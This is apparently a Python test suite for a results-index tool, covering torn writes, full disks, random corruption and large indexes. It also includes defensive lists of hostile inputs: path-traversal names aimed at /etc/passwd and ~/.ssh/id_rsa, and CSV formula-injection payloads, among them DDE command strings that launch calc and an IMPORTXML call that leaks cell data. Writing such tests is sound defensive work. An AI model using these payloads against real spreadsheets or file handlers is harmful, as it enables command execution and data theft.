#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Damaged, full, hostile and huge stores."""
import csv
import json
import os
import random
import resource
import subprocess
import threading
import time

from common import HEADER, LONG, PROGRAM, SANITIZED, Folder, main, records

LINES = 12 if LONG else 3
SHM = "/dev/shm" if os.access("/dev/shm", os.W_OK) else None


def quarantined(f):
    return sorted(os.listdir(f.at(".quarantine"))) if os.path.exists(f.at(".quarantine")) else []


def test_cut_at_every_byte():
    """verify sees every cut; repair drops the torn tail only, keeps its bytes, files the orphans, and does so once."""
    with Folder(SHM) as origin:
        for _ in range(LINES):
            origin.add(1)
        whole = origin.index()
        cuts = list(range(len(whole))) if LONG else list(range(0, 120, 9)) + list(range(len(whole) - 330, len(whole), 5))
        for cut in cuts:
            with Folder(SHM) as f:
                subprocess.run(["cp", "-a", origin.path + "/.", f.path], check=True)
                f.write("results.csv", whole[:cut])
                kept = whole[:whole[:cut].rfind(b"\n") + 1]
                torn = whole[len(kept):cut]
                assert f.run("verify", "-q").returncode == 1, cut
                if cut % 2:
                    # An add mends the tail as well.
                    assert f.run("add", "-q", data=records(1)).returncode == 0
                assert f.run("repair", "-q").returncode == 0
                once = f.index()
                assert once.startswith(kept), (cut, once)
                names = [name for name in quarantined(f) if name.startswith("tail-")]
                assert len(names) == (1 if torn else 0), (cut, names)
                if torn:
                    with open(f.at(".quarantine", names[0]), "rb") as file:
                        assert file.read() == torn, cut
                f.verified()
                assert len(f.lines()) == LINES + cut % 2, cut
                assert f.run("repair", "-q").returncode == 0 and f.index() == once, cut
        return "%d cuts" % len(cuts)


def cut_and_mended(f, whole, cut):
    """An index cut at a byte: seen by verify; repair gives back every line, and keeps the torn one's bytes."""
    f.write("results.csv", whole[:cut])
    torn = whole[whole[:cut].rfind(b"\n") + 1:cut]
    assert f.run("verify", "-q", "--names").returncode == 1, cut
    assert f.run("repair", "-q").returncode == 0, cut
    assert f.index() == whole, cut
    kept = quarantined(f)
    assert len(kept) == (1 if torn else 0), (cut, kept)
    for name in kept:
        with open(f.at(".quarantine", name), "rb") as file:
            assert file.read() == torn, cut
        os.unlink(f.at(".quarantine", name))


def test_large_index_cut_at_every_byte():
    """The same of 200 lines: after one repair the index is to the byte what it was; a second one changes nothing."""
    lines = 200 if LONG else 20
    with Folder(SHM) as f, Folder(SHM) as g:
        f.add(lines, "-q", "--every", "1")
        whole = f.index()
        assert whole.count(b"\n") == lines + 1
        subprocess.run(["cp", "-a", f.path + "/.", g.path], check=True)
        cuts = range(0, len(whole), 1 if LONG else 211)
        faults = []

        def work(folder, mine):
            try:
                for i, cut in enumerate(mine):
                    cut_and_mended(folder, whole, cut)
                    if i % 50 == 0:
                        folder.verified()
                        assert folder.run("repair", "-q").returncode == 0 and folder.index() == whole, cut
            except Exception as fault:  # for the test, not for the thread
                faults.append(fault)

        threads = [threading.Thread(target=work, args=(f, cuts[::2])), threading.Thread(target=work, args=(g, cuts[1::2]))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        if faults:
            raise faults[0]
        f.verified()
        g.verified()
        return "%d lines, %d cuts" % (lines, len(cuts))


def test_damage_in_the_middle():
    """Reported, and left alone by add, repair and prune."""
    with Folder() as f:
        for _ in range(5):
            f.add(1)
        good = f.index()
        lines = good.splitlines(True)
        damages = {
            "a line that is none": b"garbage\n", "a cell less": lines[2].replace(b",none", b"", 1),
            "another count": lines[2].replace(b",1,0,none", b",9,0,none"), "an unknown time": b"x" + lines[2],
            "another checksum": lines[2][:-3] + b"ff,\n", "nothing": b"\n", "zeros": b"\0" * 40 + b"\n",
        }
        for what, line in damages.items():
            bad = b"".join(lines[:2]) + line + b"".join(lines[3:])
            f.write("results.csv", bad)
            seen = f.run("verify")
            assert seen.returncode == 1 and "line 3" in seen.stdout or "model_response" in seen.stdout, (what, seen)
            path = f.add(1)
            assert f.index().startswith(bad), what
            os.unlink(path)
            f.write("results.csv", bad)
            f.run("prune", "-q", "--older-than", "1d")
            assert f.index() == bad, what
        f.write("results.csv", b"".join([lines[0], lines[2], lines[1], *lines[3:]]))
        seen = f.run("verify")
        assert seen.returncode == 1 and "not later" in seen.stdout
        f.write("results.csv", good + lines[2].replace(b"20", b"21", 1))
        assert "more than one line" in f.run("verify").stdout
        f.write("results.csv", good)
        f.verified()
        path = f.at("responses", f.responses()[1])
        with open(path, "r+b") as file:
            file.seek(200)
            file.write(b"#")
        assert "checksum" in f.run("verify").stdout
        assert f.run("verify", "--names").returncode == 0
        os.unlink(path)
        assert "not there" in f.run("verify", "--names").stdout


def test_limit_on_files():
    """A file that may not grow (as on a full disk) at every byte of a line: cut back, 74, and on it goes."""
    with Folder(SHM) as f:
        f.add(1)
        # The index is made the largest file, so that the limit meets its line and nothing else.
        head = f.index()
        step = 1 if LONG else 11
        base = b"2020-01-01T00:00:00.000Z," + b"y" * 5000 + b"\n"
        f.write("results.csv", HEADER.encode() + b"\n" + base + b"".join(head.splitlines(True)[1:]))
        before = f.index()
        line = len(head.splitlines(True)[1]) - 3  # its name's number may be longer or shorter
        for room in list(range(0, line, step)) + [line - 1]:
            limit = len(before) + room
            done = subprocess.run([PROGRAM, "-C", f.path, "add"], input=records(1).encode(), capture_output=True, check=False,
                                  preexec_fn=lambda: limit_files(limit))
            assert done.returncode == 74 and b"results.csv" in done.stderr and not done.stdout, (room, done)
            assert f.index() == before, room
        done = f.run("add", data=records(1))
        assert done.returncode == 0
        assert f.index().startswith(before) and f.index().count(b"\n") == before.count(b"\n") + 1


def limit_files(limit):
    import signal
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


def mounted(f):
    """A small real file system; as root only."""
    return subprocess.run(["mount", "-t", "tmpfs", "-o", "size=128k", "tmpfs", f.path], capture_output=True,
                          check=False).returncode == 0


def test_full_disk_at_every_byte():
    """The disk is full when so many bytes of a line are written: it is cut off again; then there is room and it goes on."""
    page = 4096
    with Folder() as f:
        if not mounted(f):
            return "skipped: may not mount"
        try:
            response = f.add(1)
            line = f.index().splitlines(True)[1]
            room = -(-os.path.getsize(response) // page)
            cuts = range(0, len(line) - 3, 1 if LONG else 7)  # its name's number may be longer or shorter
            for written in cuts:
                # A line that is none, before all others, so long that so much of the last page is left.
                head = HEADER.encode() + b"\n2020-01-01T00:00:00.000Z,"
                rest = b"\n" + line
                before = head + b"y" * ((-len(head) - len(rest) - written) % page) + rest
                f.write("results.csv", before)
                with open(f.at("filler"), "wb") as filler:
                    free = os.statvfs(f.path).f_bavail
                    filler.write(b"z" * ((free - room) * page))
                assert os.statvfs(f.path).f_bavail == room
                done = f.run("add", data=records(1))
                assert done.returncode == 74 and "results.csv" in done.stderr and not done.stdout, (written, done)
                assert f.index() == before, written
                os.unlink(f.at("filler"))
                assert f.run("add", "-q", data=records(1)).returncode == 0, written
                assert f.index().startswith(before) and f.index().count(b"\n") == before.count(b"\n") + 1, written
                # What could not be filed was not lost either: repair files it.
                assert f.run("repair", "-q").returncode == 0
                assert len(f.lines()) == before.count(b"\n") + 1, written
                for name in f.responses():
                    if f.at("responses", name) != response:
                        os.unlink(f.at("responses", name))
        finally:
            subprocess.run(["umount", f.path], check=False)
        return "%d times" % len(cuts)


def test_full_disk():
    """A small real file system, filled up to here and there; as root only."""
    with Folder() as f:
        if not mounted(f):
            return "skipped: may not mount"
        try:
            f.add(1)
            for free in range(0, 40):
                filler = f.at("filler")
                fd = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
                try:
                    while True:
                        os.write(fd, b"z" * 512)
                except OSError:
                    pass
                os.close(fd)
                size = os.path.getsize(filler)
                os.truncate(filler, max(0, size - free * 512))
                before = f.index()
                done = f.run("add", data=records(3))
                assert done.returncode in (0, 73, 74), (free, done)
                after = f.index()
                assert after == before or (after.startswith(before) and after.count(b"\n") == before.count(b"\n") + 1), free
                assert (done.returncode == 0) == (after != before), (free, done)
                if done.returncode != 0:
                    assert f.path in done.stderr, done
                os.unlink(filler)
                repaired = f.run("repair")
                assert repaired.returncode == 0, repaired
                f.verified()
                assert f.run("add", "-q", data=records(1)).returncode == 0
                f.run("prune", "-q", "--keep", "2")
                subprocess.run(["rm", "-rf", f.at(".quarantine")], check=True)
        finally:
            subprocess.run(["umount", f.path], check=False)
    return None


HOSTILE = [
    "../outside.json", "/etc/passwd", "responses/../outside.json", "responses/../../etc/passwd",
    "responses//model_response_20260101_000000.json", "model_response_20260101_000000.json/../../outside.json",
    "responses/model_response_20260101_000000.json\x00.txt", "responses/model_response_2026_000000.json",
    "responses/model_response_20260101_000000-01.json", "responses/model_response_20260101_000000-1234567.json",
    "responses/MODEL_RESPONSE_20260101_000000.json", "responses/model_response_20260101_000000.json.bak",
    "responses/" + "a" * 255, "responses/model_response_20260101_000000.json\n", "responses/.", "..", "", "responses/",
    "~/.ssh/id_rsa", "responses/model_response_20260101_256000.json", "-rf", "responses/model_response_２０２６０１０１_000000.json",
]


def test_hostile_names():
    """Nothing outside responses/ is opened or removed, whatever a line names."""
    for name in HOSTILE:
        with Folder() as f:
            path = f.add(1)
            keep = f.index()
            f.write("outside.json", "secret")
            os.makedirs(f.at("responses", "sub"), exist_ok=True)
            quoted = '"' + name.replace('"', '""') + '"'
            line = "2025-01-01T00:00:00.000Z," + quoted + ",,1,0,none,,,6,,\n"
            later = "2300-01-01T00:00:00.000Z," + quoted + ",,1,0,none,,,6,,\n"
            f.write("results.csv", keep.splitlines(True)[0] + line.encode() + keep.splitlines(True)[1] + later.encode())
            for args in (["latest"], ["latest", "--text"], ["list"], ["plot", "-o", f.at("p.svg")], ["report", "-o", f.at("r.html")]):
                done = f.run(*args)
                assert "secret" not in done.stdout and "root:" not in done.stdout, (name, args, done.stdout[:200])
            assert f.run("verify").returncode == 1, name
            f.run("prune", "--keep", "1")
            f.run("repair")
            assert os.path.exists(f.at("outside.json")) and os.path.exists("/etc/passwd") and os.path.exists(path), name
    # Of the right form, but no regular file.
    target = "model_response_20260101_000000.json"
    makers = {
        "symlink": lambda p: os.symlink("../outside.json", p), "FIFO": os.mkfifo, "folder": os.mkdir,
        "dangling": lambda p: os.symlink("nowhere", p),
    }
    if os.geteuid() == 0:
        makers["device"] = lambda p: os.mknod(p, 0o20600, os.makedev(1, 5))
    for what, make in makers.items():
        with Folder() as f:
            f.add(1)
            f.write("outside.json", "secret")
            try:
                make(f.at("responses", target))
            except PermissionError:
                continue
            f.write("results.csv", f.index() + b"2261-01-01T00:00:00.000Z,responses/" + target.encode() + b",,1,0,none,,,6,,\n")
            done = f.run("latest", timeout=20)
            assert done.returncode in (65, 66) and "secret" not in done.stdout, (what, done)
            assert f.run("show", target, timeout=20).returncode in (65, 66), what
            assert f.run("verify", timeout=20).returncode == 1, what
            assert f.run("repair", timeout=20).returncode in (0, 65), what
            assert os.path.exists(f.at("outside.json"))
    return "%d names" % (len(HOSTILE) + len(makers))


PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "\t=1+1", "\r=1+1", " =1+1",
    "  +1", "\"=1+1\"", "'=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=1+1,=2+2", "=1;=2", "=A1\n=B1", "\n=1+1",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@A1", "-", "+", "=", "=\"\"", "|calc",
    "%0A=1", "-2+3+cmd|' /C calc'!A0", "\u200b=1+1",
]


def test_formulas():
    """Text that a spreadsheet would run is defused, and comes back as a label all the same."""
    with Folder() as f:
        for payload in PAYLOADS:
            done = f.run("add", "-q", "-l", payload, data=records(1).replace('"status":"off"',
                         '"status":"answered","name":' + json.dumps(payload)))
            assert done.returncode == 0, (payload, done)
        with open(f.at("results.csv"), newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        assert len(rows) == len(PAYLOADS) == f.index().count(b"\n") - 1
        for row, payload in zip(rows, PAYLOADS):
            for cell in (row["label"], row["model"]):
                bare = cell.lstrip(" \t\r\n\u200b\"")
                assert not bare or bare[0] not in "=+-@|%＝＋－＠\t\r", (payload, cell)
                assert not [c for c in cell if ord(c) < 32], (payload, cell)
        assert f.run("latest", "-l", "=1+1").returncode == 0
        f.verified()
        soffice = LONG and next((p for p in ("/usr/bin/soffice", "/usr/bin/libreoffice") if os.path.exists(p)), None)
        if not soffice:
            return "%d payloads" % len(PAYLOADS)
        # A file that is not defused, so that it is sure that formulas would be seen.
        f.write("live.csv", "a,b\n=1+1,x\n")
        for name in ("live", "results"):
            subprocess.run([soffice, "--headless", "--convert-to", "fods", "--outdir", f.path, f.at(name + ".csv")], check=True,
                           capture_output=True, timeout=300, env={**os.environ, "HOME": f.path})
            with open(f.at(name + ".fods"), encoding="utf-8") as file:
                assert ("table:formula" in file.read()) == (name == "live"), name
        return "%d payloads, and in LibreOffice" % len(PAYLOADS)


def million(f, n):
    """An index of n lines (only the last one's response is there)."""
    f.add(1)
    last = f.index().splitlines(True)[1]
    with open(f.at("results.csv"), "wb") as file:
        file.write(HEADER.encode() + b"\n")
        block = []
        for i in range(n - 1):
            stamp = time.gmtime(1500000000 + i)
            block.append(b"%s.000Z,responses/model_response_%s.json,,5,1,high,2026-01-05T00:00:00Z,2026-01-05T01:00:00Z,3473,"
                         b"6a289731783bec0b8f8465ce6117cdea970b970cf5eefc3fbead25aa0f1121ef,run\n"
                         % (time.strftime("%Y-%m-%dT%H:%M:%S", stamp).encode(), time.strftime("%Y%m%d_%H%M%S", stamp).encode()))
            if len(block) == 10000:
                file.write(b"".join(block))
                block = []
        file.write(b"".join(block) + last)


def reads_of(f, *args, data=None):
    """bytes that the program read, by strace"""
    trace = f.at("trace")
    subprocess.run(["strace", "-o", trace, "-e", "trace=pread64,read", PROGRAM, "-C", f.path, *args], input=data, text=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=60,
                   env={**os.environ, "ASAN_OPTIONS": "detect_leaks=0"})
    with open(trace, encoding="utf-8", errors="replace") as file:
        return sum(int(line.rsplit("= ", 1)[1].split()[0]) for line in file if "= " in line and "= -1" not in line and "= ?" not in line)


def test_many_lines():
    n = 1000000 if LONG else 100000
    with Folder(SHM) as f, Folder(SHM) as small:
        million(f, n)
        small.add(1)
        said = []
        for args, data in ((("latest", "--path"), None), (("add", "-q"), records(1)), (("list", "-n", "5"), None)):
            begin = time.monotonic()
            done = f.run(*args, data=data)
            assert done.returncode == 0, done
            said.append("%s %.0f ms" % (args[0], 1000 * (time.monotonic() - begin)))
            if os.path.exists("/usr/bin/strace"):
                # Not a time, which a busy machine makes what it likes, but what was read.
                assert reads_of(f, *args, data=data) < reads_of(small, *args, data=data) + 200000, args
        begin = time.monotonic()
        assert len(f.run("list", "--csv", "--since", "2017-07-15").stdout.splitlines()) > 5
        said.append("list --since %.2f s" % (time.monotonic() - begin))
        begin = time.monotonic()
        # Memory: sixteen bytes a name and little else.
        limit = 64 << 20
        with open(f.at("told"), "wb") as told:
            done = subprocess.run([PROGRAM, "-C", f.path, "verify", "--names"], stdout=told, check=False,
                                  preexec_fn=None if SANITIZED else lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)))
        with open(f.at("told"), "rb") as told:
            assert done.returncode == 1 and sum(1 for _ in told) >= n - 1
        said.append("verify --names %.2f s" % (time.monotonic() - begin))
        return "%d lines: %s" % (n, ", ".join(said))


def test_random_damage():
    """Whatever bytes the index holds, every command ends with a documented status and no crash."""
    rng = random.Random(5)
    with Folder(SHM) as f:
        for _ in range(3):
            f.add(1)
        good = f.index()
        for _ in range(2000 if LONG else 60):
            data = bytearray(good)
            for _ in range(rng.randrange(1, 6)):
                at = rng.randrange(len(data))
                choice = rng.randrange(4)
                if choice == 0:
                    data[at] = rng.randrange(256)
                elif choice == 1:
                    del data[at:at + rng.randrange(1, 50)]
                elif choice == 2:
                    data[at:at] = rng.choice([b'"', b"\n", b",", b"\0", b"\r\n", b"\xff\xfe"])
                else:
                    data[at:at] = data[:rng.randrange(1, 100)]
                if not data:
                    data = bytearray(b"\n")
            f.write("results.csv", bytes(data))
            for args in (["latest"], ["list"], ["verify", "--names"], ["list", "-n", "2", "--json"]):
                done = f.run(*args)
                assert done.returncode in (0, 1, 65, 66), (args, bytes(data), done)


main(globals())
